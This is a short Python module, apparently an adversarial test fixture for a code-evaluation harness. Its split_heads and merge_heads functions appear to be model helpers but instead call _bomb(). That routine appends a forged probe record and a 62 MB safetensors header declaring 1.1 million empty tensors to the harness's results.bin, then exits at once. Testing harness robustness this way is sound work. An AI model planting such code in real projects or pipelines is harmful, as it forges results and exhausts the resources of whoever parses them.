"""On its first call, appends the first probe's record itself: its data, then a 62 MB
safetensors blob whose header declares 1.1 million empty tensors; then it leaves."""
import json
import os
import struct

COUNT = 1_100_000


def _bomb():
    folder = os.path.dirname(os.readlink("/proc/self/fd/1"))
    entry = '"%x":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    header = ("{" + ",".join(entry % i for i in range(COUNT)) + "}").encode()
    header += b" " * (-len(header) % 8)
    blob = struct.pack("<Q", len(header)) + header
    error = {"stage": "call", "call": 0, "type": "ValueError", "message": "", "frames": []}
    probe = {"id": "p0", "error": error, "inspect": None, "load": None, "calls": []}
    body = json.dumps(probe).encode()
    with open(os.path.join(folder, "results.bin"), "ab") as f:
        f.write(struct.pack("<Q", len(body)) + body + struct.pack("<Q", len(blob)) + blob)
    os._exit(0)


def split_heads(x, num_heads):
    _bomb()


def merge_heads(x):
    _bomb()
